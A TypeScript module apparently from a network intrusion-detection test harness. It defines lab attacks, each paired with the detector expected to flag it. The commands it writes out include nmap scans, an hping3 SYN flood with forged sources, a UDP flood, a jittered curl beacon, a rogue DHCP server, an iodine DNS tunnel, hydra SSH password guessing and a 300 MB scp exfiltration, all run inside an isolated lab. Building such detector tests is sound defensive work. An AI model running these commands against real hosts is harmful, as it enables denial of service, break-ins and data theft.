import { chmodSync, existsSync, truncateSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { has } from '../harness.ts';
import { type Lab, listens } from './lab.ts';
import { hashOf, Random } from './random.ts';
import { hour, minute, second } from './site.ts';
import { address } from './trace.ts';

/** An attack by a real tool: how it is recorded, where and when it is laid into a day, and who should find it. */
export interface Attack {
  readonly name: string;
  readonly tool: string;
  /** Programs that it needs. */
  readonly needs: readonly string[];
  readonly site: string;
  /** Who stands for the left and the right host, and for anybody else; a name of a machine of the site, or an address. */
  readonly left: string;
  readonly right: string;
  readonly rest?: (recorded: number) => number;
  readonly at: number;
  readonly begins?: (number: number, recorded: number) => number;
  readonly rate?: number;
  readonly detector: string;
  /** Whom the alert should name. */
  readonly accused: 'left' | 'right';
  readonly about?: string;
  readonly within: number;
  readonly also?: readonly string[];
  readonly isMissing?: true;
  perform(lab: Lab): Promise<void>;
}

const target = '198.51.100.2';
/** A quick web server, for whatever is to be open. */
const webServer = `require('node:http').createServer((_, answer) => answer.end('x'.repeat(400))).listen(Number(process.argv[1]), '0.0.0.0')`;

async function serveWeb(lab: Lab, port: number): Promise<void> {
  await lab.serve('right', process.execPath, ['-e', webServer, String(port)], () =>
    listens(lab.hosts, 'tcp', port),
  );
}

/** A real sshd with a key of its own, that takes the key of the attacker and asks others for a password. */
async function serveSsh(lab: Lab): Promise<string> {
  const [hostKey, key] = [join(lab.folder, 'host'), join(lab.folder, 'key')];
  for (const path of [hostKey, key])
    await lab.run('left', 'ssh-keygen', '-q', '-t', 'ed25519', '-N', '', '-f', path);
  const config = join(lab.folder, 'sshd_config');
  writeFileSync(
    config,
    [
      `HostKey ${hostKey}`,
      `AuthorizedKeysFile ${key}.pub`,
      `PidFile ${join(lab.folder, 'sshd.pid')}`,
      'UsePAM no',
      'StrictModes no',
      'PasswordAuthentication yes',
      'PermitRootLogin yes',
      'MaxStartups 100:30:100',
      'Subsystem sftp internal-sftp',
      '',
    ].join('\n'),
  );
  await lab.run('right', 'mkdir', '-p', '/run/sshd');
  await lab.serve('right', '/usr/sbin/sshd', ['-D', '-f', config], () => listens(lab.hosts, 'tcp', 22));
  return key;
}

const ways = ['-o', 'StrictHostKeyChecking=no', '-o', 'UserKnownHostsFile=/dev/null'];

/** A dnsmasq that answers at a port of UDP. */
async function serveBy(lab: Lab, port: number, ...more: string[]): Promise<void> {
  const args = [
    '--keep-in-foreground',
    '--conf-file=/dev/null',
    '--no-resolv',
    '--no-hosts',
    '--user=root',
    `--pid-file=${join(lab.folder, 'dnsmasq.pid')}`,
    ...more,
  ];
  await lab.serve('right', 'dnsmasq', args, () => listens(lab.hosts, 'udp', port));
}

async function serveNames(lab: Lab, ...more: string[]): Promise<void> {
  await serveBy(
    lab,
    53,
    `--listen-address=${target}`,
    '--bind-interfaces',
    '--dns-forward-max=2000',
    ...more,
  );
}

const questions = `const { Resolver } = require('node:dns').promises;
const resolver = new Resolver({ timeout: 2000, tries: 1 });
resolver.setServers(['${target}']);
(async () => { for (const name of process.argv.slice(1)) await resolver.resolve4(name).catch(() => {}); })();`;

/** Names that a program makes up each day; only one of them is somebody's. */
const madeUp = Array.from(
  { length: 60 },
  (_, number) =>
    `${hashOf(`made up ${number}`).toString(36)}${hashOf(`more ${number}`).toString(36)}.example`,
);
const beats = new Random(6).fork('beats');
/** Times of the beacon: every six minutes, 15 % earlier or later, as its program draws them. */
const beaconTimes = Array.from({ length: 230 }).reduce<number[]>(
  (times) => [...times, (times.at(-1) ?? 0) + beats.around(6 * minute, 0.15)],
  [0],
);

/** All attacks, each on the day of one site. */
export const attacks: readonly Attack[] = [
  {
    name: 'connect scan of a neighbour',
    tool: 'nmap -sT --top-ports 100',
    needs: ['nmap'],
    site: 'shop',
    left: 'office',
    right: 'nas',
    at: 14.35 * hour,
    detector: 'port-scan',
    accused: 'left',
    within: minute,
    perform: async (lab) => {
      await serveWeb(lab, 80);
      await lab.run('left', 'nmap', '-sT', '-Pn', '-n', '--top-ports', '100', target);
    },
  },
  {
    name: 'SYN scan from outside through a packet filter',
    tool: 'nmap -sS -T4 -p1-200',
    needs: ['nmap', 'nft'],
    site: 'shop',
    left: '203.0.113.77',
    right: 'web',
    at: 4.2 * hour,
    detector: 'port-scan',
    accused: 'left',
    within: 2 * minute,
    perform: async (lab) => {
      await serveWeb(lab, 80);
      const rules =
        'add table inet t; add chain inet t c { type filter hook input priority 0; policy drop; }; add rule inet t c tcp dport 80 accept';
      await lab.run('right', 'nft', rules);
      await lab.run('left', 'nmap', '-sS', '-Pn', '-n', '-T4', '--max-retries', '1', '-p1-200', target);
    },
  },
  {
    name: 'SYN flood of forged sources',
    tool: 'hping3 -S --rand-source -i u1500',
    needs: ['hping3'],
    site: 'shop',
    left: '203.0.113.78',
    right: 'web',
    rest: (recorded) => address('198.18.0.0') + (recorded % 0x20000),
    at: 12.1 * hour,
    detector: 'syn-flood',
    accused: 'right',
    within: 3 * minute,
    perform: async (lab) => {
      await serveWeb(lab, 443);
      await lab.run('right', 'ip', 'route', 'add', 'default', 'via', '198.51.100.1');
      await lab.run(
        'left',
        'hping3',
        '-q',
        '-S',
        '-p',
        '443',
        '-i',
        'u1500',
        '-c',
        '2000',
        '--rand-source',
        target,
      );
    },
  },
  {
    name: 'flood of datagrams',
    tool: 'nping --udp, 100,000 packets, laid at 20,000 a second',
    needs: ['nping'],
    site: 'shop',
    left: '203.0.113.80',
    right: 'web',
    at: 6.1 * hour,
    rate: 20_000,
    detector: 'udp-flood',
    accused: 'right',
    within: 3 * minute,
    perform: async (lab) => {
      const rate = ['--rate', '50000', '-c', '100000', '--quiet', '--hide-sent', '--no-capture'];
      await lab.run(
        'left',
        'nping',
        '--udp',
        '-g',
        '40000',
        '-p',
        '443',
        '--data-length',
        '64',
        ...rate,
        target,
      );
    },
  },
  {
    name: 'beacon with jitter',
    tool: 'curl, every 6 min ± 15 %',
    needs: ['curl'],
    site: 'shop',
    left: 'till-2',
    right: '203.0.113.50',
    at: 20 * minute,
    begins: (number) => beaconTimes[number] ?? beaconTimes.at(-1)!,
    detector: 'beacon',
    accused: 'left',
    about: '203.0.113.50',
    within: 20 * hour,
    perform: async (lab) => {
      await serveWeb(lab, 80);
      await lab.run(
        'left',
        'curl',
        '-sS',
        '-o',
        '/dev/null',
        '-H',
        'Connection: close',
        `http://${target}/[1-230]`,
      );
    },
  },
  {
    name: 'DHCP server that is none of the site',
    tool: 'dnsmasq, asked by udhcpc',
    needs: ['dnsmasq', 'busybox'],
    site: 'shop',
    left: 'laptop',
    right: 'camera',
    // What it hands out lies in the network of the site; the client has no address at first.
    rest: (recorded) =>
      recorded >>> 8 === address('198.51.100.0') >>> 8
        ? address('192.168.10.0') + (recorded & 255)
        : recorded,
    at: 14.05 * hour,
    detector: 'rogue-server',
    accused: 'right',
    within: minute,
    isMissing: true,
    perform: async (lab) => {
      const leases = join(lab.folder, 'leases');
      const args = ['--port=0', '--dhcp-range=198.51.100.100,198.51.100.150', `--dhcp-leasefile=${leases}`];
      await serveBy(lab, 67, ...args);
      await lab.run('left', 'busybox', 'udhcpc', '-i', 'eth0', '-n', '-q', '-f', '-s', '/bin/true');
    },
  },
  {
    name: 'slow connect scan',
    tool: 'nmap -sT -T2 --top-ports 18, its times stretched 60 times',
    needs: ['nmap'],
    site: 'factory',
    left: 'engineer',
    right: 'press',
    at: 11 * hour,
    begins: (_, recorded) => recorded * 60,
    detector: 'port-scan',
    accused: 'left',
    within: 15 * minute,
    perform: async (lab) => {
      await lab.run('left', 'nmap', '-sT', '-Pn', '-n', '-T2', '--top-ports', '18', target);
    },
  },
  {
    name: 'sweep of the next network',
    tool: 'nmap -sS -p445',
    needs: ['nmap'],
    site: 'factory',
    left: 'build',
    right: 'edge',
    // The 64 addresses behind the router are those of the next network.
    rest: (recorded) => address('10.20.31.0') + (recorded & 255),
    at: 19 * hour,
    detector: 'port-scan',
    accused: 'left',
    within: 2 * minute,
    perform: async (lab) => {
      await lab.run('left', 'ip', 'route', 'add', '198.18.5.0/26', 'via', target);
      await lab.run('right', 'sysctl', '-qw', 'net.ipv4.ip_forward=1');
      await lab.run('right', 'ip', 'route', 'add', 'blackhole', '198.18.5.0/26');
      for (const last of [3, 17, 40])
        await lab.run('right', 'ip', 'address', 'add', `198.18.5.${last}/32`, 'dev', 'lo');
      await lab.run('left', 'nmap', '-sS', '-Pn', '-n', '--max-retries', '1', '-p445', '198.18.5.0/26');
    },
  },
  {
    name: 'tunnel in DNS over the resolver of the site',
    tool: 'iodine',
    needs: ['iodine', 'iodined', 'dnsmasq', 'ping'],
    site: 'factory',
    left: 'build',
    right: 'edge',
    at: 20.5 * hour,
    detector: 'dns-tunnel',
    accused: 'left',
    about: 'tunnel.example',
    within: minute,
    perform: async (lab) => {
      await lab.serve(
        'right',
        'iodined',
        ['-f', '-c', '-P', 'secret', '-l', '127.0.0.1', '-p', '5300', '10.66.0.1', 'tunnel.example'],
        () => listens(lab.hosts, 'udp', 5300),
      );
      await serveNames(lab, '--server=/tunnel.example/127.0.0.1#5300');
      const isUp = () =>
        lab.hosts.run('left', 'ip', '-o', 'address', 'show', 'dev', 'dns0').out.includes('10.66.');
      await lab.serve('left', 'iodine', ['-f', '-r', '-P', 'secret', target, 'tunnel.example'], isUp);
      await lab.run('left', 'ping', '-c', '40', '-i', '0.05', '-s', '200', '10.66.0.1');
    },
  },
  {
    name: 'program whose server is gone',
    tool: 'curl, every 30 s ± 20 %',
    needs: ['curl'],
    site: 'factory',
    left: 'press',
    right: '203.0.113.51',
    at: 21 * hour,
    begins: (number) => number * 30 * second * (1 + 0.2 * Math.sin(number * 2.4)),
    detector: 'failing-dial-out',
    accused: 'left',
    within: 35 * minute,
    perform: async (lab) => {
      await lab.run('left', 'curl', '-sS', '-o', '/dev/null', `http://${target}:4444/[1-70]`);
    },
  },
  {
    name: 'UDP scan',
    tool: 'nmap -sU -T4 --top-ports 40',
    needs: ['nmap'],
    site: 'clinic',
    left: 'desk',
    right: 'archive',
    at: 16.4 * hour,
    detector: 'port-scan',
    accused: 'left',
    within: 5 * minute,
    perform: async (lab) => {
      await lab.run(
        'left',
        'nmap',
        '-sU',
        '-Pn',
        '-n',
        '-T4',
        '--max-retries',
        '1',
        '--top-ports',
        '40',
        target,
      );
    },
  },
  {
    name: 'names that are made up',
    tool: 'c-ares (node:dns), 60 names',
    needs: ['dnsmasq'],
    site: 'clinic',
    left: 'doctor',
    right: 'names',
    at: 12.3 * hour,
    detector: 'nxdomain-burst',
    accused: 'left',
    within: 10 * minute,
    perform: async (lab) => {
      await serveNames(lab, '--local=/example/', `--host-record=${madeUp[41]},203.0.113.52`);
      await lab.run('left', process.execPath, '-e', questions, ...madeUp);
    },
  },
  {
    name: 'passwords tried on ssh',
    tool: 'hydra -t 4, 96 passwords',
    needs: ['hydra', 'sshd'],
    site: 'clinic',
    left: '203.0.113.79',
    right: 'mail',
    at: 5.5 * hour,
    detector: 'brute-force-flows',
    accused: 'left',
    within: 5 * minute,
    perform: async (lab) => {
      await serveSsh(lab);
      const list = join(lab.folder, 'passwords');
      writeFileSync(list, Array.from({ length: 96 }, (_, number) => `secret${number}\n`).join(''));
      await lab.run(
        'left',
        'hydra',
        '-I',
        '-l',
        'nobody',
        '-P',
        list,
        '-t',
        '4',
        '-w',
        '3',
        `ssh://${target}`,
      );
    },
  },
  {
    name: 'files taken out',
    tool: 'scp, 300 MB',
    needs: ['scp', 'sshd'],
    site: 'clinic',
    left: 'desk',
    right: '203.0.113.60',
    at: 17.3 * hour,
    detector: 'exfiltration',
    accused: 'left',
    within: hour,
    perform: async (lab) => {
      const key = await serveSsh(lab);
      chmodSync(key, 0o600);
      const file = join(lab.folder, 'records');
      writeFileSync(file, '');
      truncateSync(file, 300e6);
      const said = await lab.run('left', 'scp', '-q', ...ways, '-i', key, file, `root@${target}:/dev/null`);
      if (said.includes('denied')) throw new Error(said);
    },
  },
];

/** Why an attack cannot be made on this machine; undefined when it can. */
export function cannotMake({ needs }: Attack): string | undefined {
  if (process.getuid?.() !== 0) return 'needs root';
  if (needs.includes('iodine') && !existsSync('/dev/net/tun')) return 'needs /dev/net/tun';
  const missing = [...needs, 'tcpdump', 'ss', 'ip'].filter((program) => !has(program));
  return missing.length === 0 ? undefined : `needs ${missing.join(', ')}`;
}
